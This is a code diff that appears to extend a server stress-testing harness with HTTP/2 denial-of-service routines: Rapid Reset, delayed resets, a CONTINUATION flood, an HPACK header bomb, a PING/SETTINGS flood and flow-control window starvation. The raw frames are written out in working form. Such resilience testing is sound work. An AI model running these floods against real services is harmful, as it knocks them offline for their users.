@@ -144,6 +144,78 @@ def unread_streams(port, until):
             connection.close()
 
 
+def frame(kind, flags, stream, payload=b""):
+    """Of HTTP/2 (RFC 9113, 4.1)."""
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+HTTP2_HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
+# GET / of http: entries of the static table, and the literal :authority "x".
+HTTP2_GET = b"\x82\x86\x84\x01\x01x"
+
+
+@repeated
+def rapid_reset(port, until):
+    """Requests that are taken back as soon as they are made, on one connection after another."""
+    frames = b"".join(frame(1, 5, 2 * i + 1, HTTP2_GET) + frame(3, 0, 2 * i + 1, b"\0\0\0\x08") for i in range(20_000))
+    send_endlessly(port, HTTP2_HELLO, frames, 1, until)
+
+
+@repeated
+def held_resets(port, until):
+    """The same a moment later, so that each request has reached a worker."""
+    try:
+        with connect(port) as connection:
+            connection.sendall(HTTP2_HELLO)
+            for i in range(1_000):
+                connection.sendall(frame(1, 5, 2 * i + 1, HTTP2_GET))
+                time.sleep(0.001)
+                connection.sendall(frame(3, 0, 2 * i + 1, b"\0\0\0\x08"))
+                if time.monotonic() >= until:
+                    return
+    except OSError:
+        pass
+
+
+@repeated
+def continuation(port, until):
+    """A head of HTTP/2 without an end."""
+    send_endlessly(port, HTTP2_HELLO + frame(1, 1, 1, HTTP2_GET), frame(9, 0, 1, b"\0\x01a\x01b" * 3000), 64 * MIB, until)
+
+
+@repeated
+def packed_head(port, until):
+    """Heads of HTTP/2 in which a byte stands for 4 kB."""
+    large = b"\x40\x01a" + b"\x7f\xa1\x1e" + b"x" * 4000
+    send_endlessly(port, HTTP2_HELLO, frame(1, 5, 1, HTTP2_GET + large + b"\xbe" * 8000), 1 * MIB, until)
+
+
+@repeated
+def pings(port, until):
+    """PING and SETTINGS, whose answers are not read."""
+    send_endlessly(port, HTTP2_HELLO, (frame(6, 0, 0, b"12345678") + frame(4, 0, 0)) * 1000, 64 * MIB, until)
+
+
+def closed_windows(port, until):
+    """A hundred answers on each of fifty connections, for which no window is opened."""
+    body = json.dumps({"model": "m", "prompt": "flood", "stream": True}).encode()
+    hello = HTTP2_HELLO[:-9] + frame(4, 0, 0, b"\0\x04\0\0\0\0")
+    fields = b"\x83\x86\x04\x0f/v1/completions\x01\x01x"
+    connections = []
+    try:
+        for _ in range(50):
+            connections.append(connect(port))
+            connections[-1].sendall(hello + b"".join(
+                frame(1, 4, 2 * i + 1, fields) + frame(0, 1, 2 * i + 1, body) for i in range(100)))
+        while time.monotonic() < until:
+            time.sleep(0.1)
+    except OSError:
+        pass
+    finally:
+        for connection in connections:
+            connection.close()
+
+
 ATTACKS = {
     "chunk_extension": chunk_extension,
     "trailers": trailers,
@@ -154,4 +226,10 @@ ATTACKS = {
     "dripping_bodies": dripping_bodies,
     "bad_requests": bad_requests,
     "unread_streams": unread_streams,
+    "rapid_reset": rapid_reset,
+    "held_resets": held_resets,
+    "continuation": continuation,
+    "packed_head": packed_head,
+    "pings": pings,
+    "closed_windows": closed_windows,
 }
